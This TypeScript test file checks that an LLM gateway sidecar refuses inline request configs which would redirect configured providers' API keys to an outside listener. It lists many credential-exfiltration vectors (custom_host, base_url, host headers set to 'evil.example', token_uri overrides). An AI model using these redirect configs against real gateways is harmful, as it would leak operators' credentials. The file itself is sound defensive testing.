// Credentials go only where the operator configured them: a request's inline config (header
// JSON) may name configured providers but never move them, an inline target with its own endpoint
// gets only its own key, and server.inline_configs limits what a request may choose at all.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseConfigText } from '../../src/config/load.js';
import { ENDPOINT_FIELDS } from '../../src/config/inline-targets.js';
import { startFakeOpenAI, type FakeServer } from '../fakes/openai.js';
import type { ChatBody } from '../fakes/openai-chat.js';
import { chat, post, startSidecar, type TestSidecar } from '../helpers/sidecar.js';

/** Every secret configured below (or set in the environment): none may reach the listener. */
const SECRETS = [
  'sk-real',
  'sk-local',
  'az-real',
  'az-ad-real',
  'br-real',
  'vx-real',
  'gm-real',
  'an-real',
  'sk-slug-openai',
  'ambient-bedrock',
];

interface Seen {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** A host nobody configured: records every request (auth headers included) and answers like OpenAI. */
async function startListener(): Promise<{ url: string; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      const json = JSON.stringify({
        id: 'chatcmpl-listener',
        object: 'chat.completion',
        created: 0,
        model: 'gpt-4o',
        choices: [{ index: 0, message: { role: 'assistant', content: 'from the listener' }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
      });
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(json) });
      res.end(json);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

function leakedSecrets(s: Seen): string[] {
  const text = JSON.stringify(s.headers) + s.url + s.body;
  return SECRETS.filter((k) => text.includes(k));
}

let up: FakeServer; // the operator's own upstream for @local-prod
let evil: Awaited<ReturnType<typeof startListener>>;
let sc: TestSidecar; // server.inline_configs: allow (default)
let slugNamedOpenai: TestSidecar;
let idsOnly: TestSidecar;
let off: TestSidecar;

beforeAll(async () => {
  up = await startFakeOpenAI({ apiKey: 'sk-local' });
  evil = await startListener();
  sc = await startSidecar(`
providers:
  openai-prod: {type: openai, api_key: sk-real}
  local-prod: {type: openai, api_key: sk-local, base_url: "${up.url}/v1"}
  azure-prod: {type: azure-openai, api_key: az-real, resource_name: myres, deployment: gpt4o}
  azure-ad: {type: azure-openai, azure_ad_token: az-ad-real, resource_name: myres, deployment: gpt4o}
  bedrock-prod: {type: bedrock, api_key: br-real, region: us-east-1}
  vertex-prod: {type: vertex, access_token: vx-real, project: p1, location: us-central1}
  gemini-prod: {type: gemini, api_key: gm-real}
  anthropic-prod: {type: anthropic, api_key: an-real}
configs:
  default: {provider: "@local-prod"}
  # The file's own targets may still use custom_host; a host that is not the entry's gets no entry key.
  proxied: {provider: "@local-prod", custom_host: "${evil.url}/v1"}
  proxied-own-key: {provider: "@local-prod", custom_host: "${evil.url}/v1", api_key: sk-proxy}
  proxied-vertex: {provider: "@vertex-prod", custom_host: "${evil.url}/v1"}
  proxied-azure-ad: {provider: "@azure-ad", custom_host: "${evil.url}"}
  proxied-bedrock: {provider: "@bedrock-prod", custom_host: "${evil.url}"}
  same-host: {provider: "@local-prod", custom_host: "${up.url}/v1/"}
default_config: default
`);
  slugNamedOpenai = await startSidecar(`
providers:
  openai: {type: openai-compatible, api_key: sk-slug-openai, base_url: "${up.url}/v1"}
`);
  idsOnly = await startSidecar(`
providers:
  local-prod: {type: openai, api_key: sk-local, base_url: "${up.url}/v1"}
configs:
  default: {provider: "@local-prod"}
  named: {provider: "@local-prod", override_params: {model: gpt-4o-mini}}
default_config: default
server: {inline_configs: ids_only}
`);
  off = await startSidecar(`
providers:
  local-prod: {type: openai, api_key: sk-local, base_url: "${up.url}/v1"}
configs:
  default: {provider: "@local-prod"}
  named: {provider: "@local-prod", override_params: {model: gpt-4o-mini}}
default_config: default
server: {inline_configs: "off"}
`);
});
afterAll(async () => {
  await Promise.all([sc.close(), slugNamedOpenai.close(), idsOnly.close(), off.close()]);
  await Promise.all([up.close(), evil.close()]);
});
beforeEach(() => {
  up.reset();
  evil.seen.length = 0;
});

const cfg = (config: unknown, header = 'x-switchyard-config') => ({ [header]: JSON.stringify(config) });

/** A refusal: 400 in the sidecar's one error shape, naming `path`, and nothing sent anywhere. */
function expectRefused(r: Awaited<ReturnType<typeof post>>, path: string, code = 'invalid_config'): void {
  expect(r.status).toBe(400);
  expect(r.json.error).toMatchObject({ type: 'invalid_request_error', code, status: 400, attempts: [] });
  expect(r.json.error.message).toContain(path);
  for (const k of SECRETS) expect(r.text).not.toContain(k);
  expect(evil.seen).toEqual([]);
  expect(up.requests).toEqual([]);
}

describe('an inline config cannot move a configured provider', () => {
  it('refuses the exfiltration: @openai-prod with custom_host pointed at another listener', async () => {
    const r = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ targets: [{ provider: '@openai-prod', custom_host: `${evil.url}/v1` }] }),
    );
    expectRefused(r, 'config.targets[0].custom_host');
    expect(r.json.error.message).toContain('@openai-prod');
  });

  it('refuses it with the x-portkey-config spelling too', async () => {
    const r = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ targets: [{ provider: '@openai-prod', custom_host: `${evil.url}/v1` }] }, 'x-portkey-config'),
    );
    expectRefused(r, 'config.targets[0].custom_host');
  });

  it('refuses it on a root leaf and deep in a nested tree', async () => {
    const root = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ provider: '@openai-prod', custom_host: `${evil.url}/v1` }),
    );
    expectRefused(root, 'config.custom_host');
    const nested = {
      strategy: { mode: 'fallback' },
      targets: [
        { provider: '@local-prod' },
        { strategy: { mode: 'loadbalance' }, targets: [{ provider: '@openai-prod', base_url: `${evil.url}/v1` }] },
      ],
    };
    const deep = await post(`${sc.url}/v1/chat/completions`, chat(), cfg(nested));
    expectRefused(deep, 'config.targets[1].targets[0].base_url');
  });

  // Every field that decides where a configured provider's request (and key) goes, on the
  // provider types whose adapters read it, in our spelling and Portkey's.
  const url = () => `${evil.url}/v1`;
  const cases: Array<[string, string, () => unknown]> = [
    ['@openai-prod', 'custom_host', url],
    ['@openai-prod', 'base_url', url],
    ['@openai-prod', 'endpoint', url],
    ['@openai-prod', 'headers', () => ({ host: 'evil.example' })],
    ['@anthropic-prod', 'custom_host', url],
    ['@anthropic-prod', 'headers', () => ({ 'x-forwarded-host': 'evil.example' })],
    ['@gemini-prod', 'custom_host', url],
    ['@gemini-prod', 'base_url', url],
    ['@azure-prod', 'custom_host', url],
    ['@azure-prod', 'resource_name', () => 'attacker'],
    ['@azure-prod', 'azure_resource_name', () => 'attacker'],
    ['@azure-prod', 'deployment', () => 'other'],
    ['@azure-prod', 'deployments', () => ({ 'gpt-4o': 'other' })],
    ['@azure-prod', 'deployment_id', () => 'other'],
    ['@azure-prod', 'azure_deployment_id', () => 'other'],
    ['@azure-prod', 'api_version', () => 'v1'],
    ['@azure-prod', 'azure_api_version', () => 'v1'],
    ['@azure-prod', 'azure_endpoint_name', () => 'attacker'],
    ['@azure-prod', 'azure_foundry_url', url],
    ['@azure-ad', 'entra', () => ({ authority_host: evil.url })],
    ['@bedrock-prod', 'custom_host', url],
    ['@bedrock-prod', 'region', () => 'eu-west-1'],
    ['@bedrock-prod', 'aws_region', () => 'eu-west-1'],
    ['@vertex-prod', 'custom_host', url],
    ['@vertex-prod', 'project', () => 'attacker'],
    ['@vertex-prod', 'location', () => 'europe-west4'],
    ['@vertex-prod', 'vertex_project_id', () => 'attacker'],
    ['@vertex-prod', 'vertex_region', () => 'europe-west4'],
    ['@vertex-prod', 'credentials', () => ({ token_uri: evil.url })],
    ['@vertex-prod', 'vertex_service_account_json', () => ({ token_uri: evil.url })],
  ];

  it('covers every endpoint field in the table below', () => {
    expect(new Set(cases.map((c) => c[1]))).toEqual(new Set(ENDPOINT_FIELDS));
  });

  it.each(cases)('refuses %s with %s', async (provider, field, value) => {
    const r = await post(`${sc.url}/v1/chat/completions`, chat(), cfg({ targets: [{ provider, [field]: value() }] }));
    expectRefused(r, `config.targets[0].${field}`);
  });

  it.each(['openai-prod', '@openai-prod'])('refuses virtual_key "%s" with custom_host', async (vk) => {
    const r = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ targets: [{ virtual_key: vk, custom_host: `${evil.url}/v1` }] }),
    );
    expectRefused(r, 'config.targets[0].custom_host');
  });

  it('refuses a bare provider name that is a configured slug, with or without its own api_key', async () => {
    for (const t of [{ provider: 'openai-prod' }, { provider: 'openai-prod', api_key: 'sk-caller' }]) {
      const r = await post(
        `${sc.url}/v1/chat/completions`,
        chat(),
        cfg({ targets: [{ ...t, custom_host: `${evil.url}/v1` }] }),
      );
      expectRefused(r, 'config.targets[0].custom_host');
    }
  });

  it('refuses a bare provider type that is also a configured slug ("openai") with custom_host', async () => {
    evil.seen.length = 0;
    for (const t of [{ provider: 'openai' }, { provider: 'openai', api_key: 'sk-caller' }, { virtual_key: 'openai' }]) {
      const r = await post(
        `${slugNamedOpenai.url}/v1/chat/completions`,
        chat(),
        cfg({ ...t, custom_host: `${evil.url}/v1` }),
      );
      expectRefused(r, 'config.custom_host');
      expect(r.json.error.message).toContain('"@openai"');
    }
  });

  it('still lets an inline config name configured providers at their own endpoint', async () => {
    const r = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ targets: [{ provider: '@local-prod', override_params: { model: 'gpt-4o-mini' } }] }),
    );
    expect(r.status).toBe(200);
    expect(up.requests).toHaveLength(1);
    expect(evil.seen).toEqual([]);
  });
});

describe('an inline target with its own endpoint', () => {
  it('reaches its listener with its own api_key, never a configured one', async () => {
    const r = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({
        provider: 'openai',
        api_key: 'sk-caller',
        custom_host: `${evil.url}/v1`,
        override_params: { model: 'gpt-4o' },
      }),
    );
    expect(r.status).toBe(200);
    expect(r.json.choices[0].message.content).toBe('from the listener');
    expect(evil.seen).toHaveLength(1);
    expect(evil.seen[0].url).toBe('/v1/chat/completions');
    expect(evil.seen[0].headers.authorization).toBe('Bearer sk-caller');
    expect(leakedSecrets(evil.seen[0])).toEqual([]);
  });

  it('with no api_key goes without credentials (no configured key, no ambient ones)', async () => {
    const saved = { token: process.env.AWS_BEARER_TOKEN_BEDROCK, region: process.env.AWS_REGION };
    process.env.AWS_BEARER_TOKEN_BEDROCK = 'ambient-bedrock';
    process.env.AWS_REGION = 'us-east-1';
    try {
      for (const provider of ['openai', 'openai-compatible', 'anthropic', 'gemini', 'azure-openai', 'bedrock']) {
        evil.seen.length = 0;
        await post(
          `${sc.url}/v1/chat/completions`,
          chat(),
          cfg({ provider, custom_host: `${evil.url}/v1`, override_params: { model: 'gpt-4o' } }),
        );
        expect(evil.seen, provider).toHaveLength(1);
        const h = evil.seen[0].headers;
        expect([h.authorization, h['x-api-key'], h['api-key'], h['x-goog-api-key']], provider).toEqual([
          undefined,
          undefined,
          undefined,
          undefined,
        ]);
        expect(leakedSecrets(evil.seen[0]), provider).toEqual([]);
      }
    } finally {
      for (const [k, v] of [
        ['AWS_BEARER_TOKEN_BEDROCK', saved.token],
        ['AWS_REGION', saved.region],
      ] as const) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
    }
  });

  it('cannot pick up a provider through the model field ("@slug/model")', async () => {
    // A model naming a provider inside the target's params is just a model string sent to the target.
    const inParams = await post(
      `${sc.url}/v1/chat/completions`,
      chat(),
      cfg({ provider: 'openai', custom_host: `${evil.url}/v1`, override_params: { model: '@openai-prod/gpt-4o' } }),
    );
    expect(inParams.status).toBe(200);
    expect(evil.seen).toHaveLength(1);
    expect(evil.seen[0].headers.authorization).toBeUndefined();
    expect(leakedSecrets(evil.seen[0])).toEqual([]);
    // The request's model field names a configured provider: it goes to that provider's own endpoint.
    evil.seen.length = 0;
    const inBody = await post(
      `${sc.url}/v1/chat/completions`,
      chat('hi', { model: '@local-prod/gpt-4o' }),
      cfg({ provider: 'openai', custom_host: `${evil.url}/v1` }),
    );
    expect(inBody.status).toBe(200);
    expect(up.requests).toHaveLength(1);
    expect(evil.seen).toEqual([]);
    // …and an inline config that moves a configured provider is refused even then.
    up.reset();
    const both = await post(
      `${sc.url}/v1/chat/completions`,
      chat('hi', { model: '@openai-prod/gpt-4o' }),
      cfg({ provider: '@openai-prod', custom_host: `${evil.url}/v1` }),
    );
    expectRefused(both, 'config.custom_host');
  });
});

describe("the file's own targets with custom_host (defense in depth in resolveProvider)", () => {
  it("send no entry credentials to a host that is not the entry's endpoint", async () => {
    for (const id of ['proxied', 'proxied-vertex', 'proxied-azure-ad', 'proxied-bedrock']) {
      evil.seen.length = 0;
      await post(`${sc.url}/v1/chat/completions`, chat(), { 'x-switchyard-config': id });
      expect(evil.seen, id).toHaveLength(1);
      expect(evil.seen[0].headers.authorization, id).toBeUndefined();
      expect(evil.seen[0].headers['api-key'], id).toBeUndefined();
      expect(leakedSecrets(evil.seen[0]), id).toEqual([]);
    }
  });

  it("send the target's own api_key there", async () => {
    const r = await post(`${sc.url}/v1/chat/completions`, chat(), { 'x-switchyard-config': 'proxied-own-key' });
    expect(r.status).toBe(200);
    expect(evil.seen[0].headers.authorization).toBe('Bearer sk-proxy');
  });

  it("keep the entry's key when custom_host is the entry's own endpoint", async () => {
    const r = await post(`${sc.url}/v1/chat/completions`, chat(), { 'x-switchyard-config': 'same-host' });
    expect(r.status).toBe(200); // the fake answers 401 without sk-local
    expect(up.requests).toHaveLength(1);
  });
});

describe('server.inline_configs', () => {
  it('ids_only: config ids and "@slug/model" work, inline JSON is refused before anything is sent', async () => {
    const byId = await post(`${idsOnly.url}/v1/chat/completions`, chat(), { 'x-switchyard-config': 'named' });
    expect(byId.status).toBe(200);
    expect((up.requests[0].body as ChatBody).model).toBe('gpt-4o-mini');
    const bySlug = await post(`${idsOnly.url}/v1/chat/completions`, chat('hi', { model: '@local-prod/gpt-4o' }));
    expect(bySlug.status).toBe(200);
    up.reset();
    for (const header of ['x-switchyard-config', 'x-portkey-config']) {
      const r = await post(
        `${idsOnly.url}/v1/chat/completions`,
        chat(),
        cfg({ provider: 'openai', api_key: 'sk-caller', custom_host: `${evil.url}/v1` }, header),
      );
      expectRefused(r, 'server.inline_configs', 'inline_config_refused');
      expect(r.json.error.message).toContain('ids_only');
    }
  });

  it('off: the header (ids and inline JSON) and "@slug/model" are refused; requests use default_config', async () => {
    const refused = [
      [{ 'x-switchyard-config': 'named' }, chat()],
      [{ 'x-portkey-config': 'named' }, chat()],
      [cfg({ provider: 'openai', api_key: 'sk-caller', custom_host: `${evil.url}/v1` }), chat()],
      [{}, chat('hi', { model: '@local-prod/gpt-4o' })],
    ] as const;
    for (const [headers, body] of refused) {
      const r = await post(`${off.url}/v1/chat/completions`, body, headers);
      expectRefused(r, 'server.inline_configs', 'inline_config_refused');
    }
    const plain = await post(`${off.url}/v1/chat/completions`, chat());
    expect(plain.status).toBe(200);
    expect(up.requests).toHaveLength(1);
  });

  it('is checked when the file loads', () => {
    expect(parseConfigText('configs: {}', 'x.yaml', {}).file.server.inline_configs).toBe('allow');
    expect(() => parseConfigText('server: {inline_configs: maybe}', 'x.yaml', {})).toThrow(/server\.inline_configs/);
    expect(() =>
      parseConfigText(
        'providers: {p: {type: openai}}\nconfigs: {c: {provider: "@p"}}\nserver: {inline_configs: "off"}',
        'x.yaml',
        {},
      ),
    ).toThrow(/server\.inline_configs: "off" needs default_config/);
  });
});

afterEach(() => {
  // Whatever a test did, no configured secret may have reached the listener.
  for (const s of evil.seen) expect(leakedSecrets(s)).toEqual([]);
});
